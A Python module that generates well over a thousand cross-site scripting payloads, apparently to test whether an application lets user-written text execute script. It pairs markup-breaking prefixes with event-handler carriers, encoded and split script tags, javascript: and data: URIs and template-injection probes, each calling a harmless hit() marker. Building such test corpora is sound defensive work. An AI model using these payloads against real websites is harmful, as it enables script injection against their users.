"""A thousand and more attempts to run a script from what a reader writes; each calls `hit()` if it runs."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

BREAKS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</style>", "</script>", "`>", "]]>", '" ', "' ")
CARRIERS = (
    "<img src=x {e}=hit()>",
    "<svg {e}=hit()>",
    "<svg><animate onbegin=hit() attributeName=x>",
    "<body {e}=hit()>",
    "<details open {e}=hit()>",
    "<video><source {e}=hit()></video>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<input autofocus {e}=hit()>",
    "<math><mtext><img src=x {e}=hit()></mtext></math>",
    "<a href=javascript:hit() {e}=hit()>x</a>",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerover", "onanimationstart")
WHOLE = (
    "<script>hit()</script>",
    "<script src=data:text/javascript,hit()></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<ScRiPt>hit()</ScRiPt>",
    "<script\n>hit()</script\n>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "{{hit()}}",
    "{{ ''.__class__ }}",
    "{% raw %}<script>hit()</script>",
    "${hit()}",
    "<style>@import 'javascript:hit()';</style>",
    "<link rel=stylesheet href=javascript:hit()>",
    "<base href=javascript:hit()//>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<form action=javascript:hit()><button autofocus onfocus=hit()>x</button></form>",
    "<isindex action=javascript:hit() type=image>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "\u2028hit()\u2029",
    "<a href='jav&#x09;ascript:hit()'>x</a>",
    "<svg><script href=data:,hit() />",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=hit() /></svg>#x' />",
    "<x contenteditable autofocus onfocus=hit()>",
)


def payloads() -> list[str]:
    """All of them, none twice."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for before, whole in product(BREAKS, WHOLE):
        yield before + whole
    for before, carrier, event in product(BREAKS, CARRIERS, EVENTS):
        yield before + carrier.format(e=event)


def batches(limit: int) -> Iterator[str]:
    """The payloads one after the other, in texts of at most `limit` code points."""
    batch = ""
    for each in payloads():
        if len(batch) + len(each) + 1 > limit:
            yield batch
            batch = ""
        batch += each + " "
    yield batch
